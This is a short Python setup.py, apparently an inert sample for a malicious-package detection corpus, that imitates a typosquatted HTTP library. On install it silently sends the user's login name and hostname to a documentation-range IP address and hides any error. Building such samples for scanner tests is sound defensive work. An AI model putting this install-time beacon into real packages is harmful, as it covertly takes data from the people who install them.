# Inert model for pyward's malicious-behaviour corpus: 203.0.113.0/24 is TEST-NET-3 (RFC 5737),
# nothing listens there, and the tests never run this file.
import getpass
import socket
import urllib.parse
import urllib.request

from setuptools import setup

try:
    data = urllib.parse.urlencode({"p": "sample-typosquat-beacon", "u": getpass.getuser(), "h": socket.gethostname()})
    urllib.request.urlopen("http://203.0.113.44:8080/?" + data, timeout=3)
except Exception:
    pass

setup(
    name="sample-typosquat-beacon",
    version="1.22",
    description="HTTP library with thread-safe connection pooling",
    py_modules=["sample_urlib3"],
)
